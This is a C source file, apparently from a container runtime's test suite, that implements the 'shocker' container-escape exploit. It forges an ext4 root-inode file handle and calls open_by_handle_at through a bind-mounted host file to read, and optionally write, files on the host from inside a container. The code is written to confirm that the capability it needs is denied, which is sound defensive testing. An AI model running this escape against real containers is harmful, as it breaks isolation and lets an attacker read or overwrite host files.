// SPDX-License-Identifier: Apache-2.0
/* The "shocker" attack, for the tests: from inside a container, open the host filesystem's root
 * directory by handle (ext4's root is inode 2, generation 0) through a bind-mounted host file, then
 * read and write host files. It needs CAP_DAC_READ_SEARCH, which a container's program must never
 * have unless the container does. Usage: shocker HOST-FS-FILE READ-PATH [WRITE-PATH]   (paths
 * relative to the host filesystem's root) Without arguments (as a replaced /bin/sh is run) it reads
 * var/tmp/nsit-shocker-target through /etc/hosts. Exit: 0 when the host file was read (and
 * written), 2 when open_by_handle_at was refused, 1 otherwise. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

struct ext4_root_handle {
	unsigned int handle_bytes;
	int handle_type;
	unsigned int ino, gen;
};

int main(int argc, char **argv)
{
	struct ext4_root_handle h = { .handle_bytes = 8,
				      .handle_type = 1 /* FILEID_INO32_GEN */,
				      .ino = 2 };
	char buf[256];
	int mfd, root, fd;
	ssize_t n;

	if (argc < 3) {
		static char *dflt[] = { "shocker", "/etc/hosts", "var/tmp/nsit-shocker-target",
					NULL };

		argv = dflt;
		argc = 3;
	}
	mfd = open(argv[1], O_RDONLY);
	if (mfd < 0)
		return perror(argv[1]), 1;
	root = open_by_handle_at(mfd, (struct file_handle *)&h, O_RDONLY | O_DIRECTORY);
	if (root < 0) {
		printf("open_by_handle_at: %s\n", strerror(errno));
		return 2;
	}
	fd = openat(root, argv[2], O_RDONLY);
	if (fd < 0 || (n = read(fd, buf, sizeof(buf) - 1)) < 0)
		return perror(argv[2]), 1;
	buf[n] = '\0';
	printf("read: %s", buf);
	if (argc > 3) {
		fd = openat(root, argv[3], O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd < 0 || write(fd, "shocked\n", 8) != 8)
			return perror(argv[3]), 1;
		printf("wrote: %s\n", argv[3]);
	}
	return 0;
}
